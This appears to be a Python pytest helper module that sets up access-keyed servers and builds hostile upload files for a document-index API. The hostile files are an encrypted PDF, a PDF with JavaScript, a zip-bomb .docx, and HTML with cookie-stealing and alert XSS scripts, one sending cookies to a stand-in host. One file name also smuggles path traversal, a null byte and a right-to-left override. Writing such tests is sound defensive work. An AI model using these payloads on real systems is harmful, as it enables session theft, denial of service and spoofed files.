"""Keys, servers with access control over copies of the small index, and builders of hostile files."""

from __future__ import annotations

import io
import os
import zipfile
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from broker.access import hash_key
from core.settings import Settings
from index.embed import Embedder
from tests.api.conftest import LiveServer, live, serve
from tests.conftest import PDF_PAGES, write_pdf

__all__ = ["live"]  # the shared read-only server over the small index, as in tests/api

ADMIN_KEY = "admin-key-for-tests-7f3a9c"
READER_KEY = "reader-key-for-tests-21b4"
INTERNAL_KEY = "internal-key-for-tests-90de"
ADMIN = {"Authorization": f"Bearer {ADMIN_KEY}"}
READER = {"X-API-Key": READER_KEY}
INTERNAL = {"Authorization": f"Bearer {INTERNAL_KEY}"}


def with_keys(settings: Settings, *, readers: bool = False, **extra: object) -> Settings:
    """The settings with an admin key, and with reader and internal keys when reads should be closed."""
    update: dict[str, object] = {"admin_key_sha256": hash_key(ADMIN_KEY), **extra}
    if readers:
        update |= {"reader_key_sha256": hash_key(READER_KEY), "internal_key_sha256": hash_key(INTERNAL_KEY)}
    return settings.model_copy(update=update)


@pytest.fixture
def admin_server(private_index: tuple[Settings, Path], e5: Embedder) -> Iterator[tuple[LiveServer, Settings]]:
    """A server over a private copy of the small index; reads open, writes with the admin key."""
    settings = with_keys(
        private_index[0], upload_max_mb=2.0, upload_max_files=12, upload_parse_timeout_s=10.0
    )
    with serve(settings, e5) as server:
        yield server, settings


@pytest.fixture
def http(admin_server: tuple[LiveServer, Settings]) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=admin_server[0].url, timeout=120) as client:
        yield client


# -- hostile and broken files, built by the tests ------------------------------------------------


def good_pdf(tmp: Path) -> bytes:
    path = tmp / "god.pdf"
    write_pdf(path, "Kvalitetsstandard for fast kontaktperson", PDF_PAGES)
    return path.read_bytes()


def encrypted_pdf(tmp: Path) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter()
    for page in PdfReader(io.BytesIO(good_pdf(tmp))).pages:
        writer.add_page(page)
    writer.encrypt(user_password="hemmelig", owner_password="ejer", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def javascript_pdf(tmp: Path) -> bytes:
    """A readable PDF that also carries JavaScript to run on opening."""
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter()
    for page in PdfReader(io.BytesIO(good_pdf(tmp))).pages:
        writer.add_page(page)
    try:
        from pypdf.actions import JavaScript

        writer.add_open_action(JavaScript("app.alert('hej fra pdf');"))
    except ImportError:  # pypdf before 6
        writer.add_js("app.alert('hej fra pdf');")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def empty_pages_pdf(pages: int = 3000) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def zip_bomb_docx() -> bytes:
    """A .docx whose document part inflates from a few kB to 50 MB of zeros."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("word/document.xml", b"<w:document>" + b"\0" * (50 * 1024 * 1024))
    return out.getvalue()


SCRIPT_HTML = (
    "<!doctype html><html><head><title>Familiebehandling i Viborg</title>"
    "<script>document.location='https://angriber.example/?c='+document.cookie</script></head><body>"
    + "<script>alert('x')</script>"
    * 200
    + "<main><h1>Familiebehandling i Viborg Kommune</h1><p>Viborg Kommune tilbyder familiebehandling i hjemmet "
    "efter Barnets Lov, hvor en familiebehandler arbejder med forældrenes omsorg og samspillet i familien. "
    "Forløbet følges op hver tredje måned.</p><img src=x onerror=alert(1)></main></body></html>"
)


def bad_files(tmp: Path) -> dict[str, tuple[str, bytes]]:
    """Case name -> (file name as the client sends it, content)."""
    pdf = good_pdf(tmp)
    return {
        "encrypted_pdf": ("beskyttet.pdf", encrypted_pdf(tmp)),
        "truncated_pdf": ("afkortet.pdf", pdf[: len(pdf) // 3]),
        "javascript_pdf": ("med_javascript.pdf", javascript_pdf(tmp)),
        "empty_pages_pdf": ("tomme_sider.pdf", empty_pages_pdf()),
        "zip_bomb_docx": ("bombe.docx", zip_bomb_docx()),
        "docx_not_zip": ("ikke_zip.docx", os.urandom(4096)),
        "script_html": ("scripts.html", SCRIPT_HTML.encode()),
        "binary_txt": ("binær.txt", bytes(range(256)) * 64),
        "empty_file": ("tom.txt", b""),
        "invalid_name": (
            "../../\x00\x1b[31mnavn\u202egnp.txt",
            b"Notat om ungeindsatsen i Viborg Kommune.",
        ),
    }
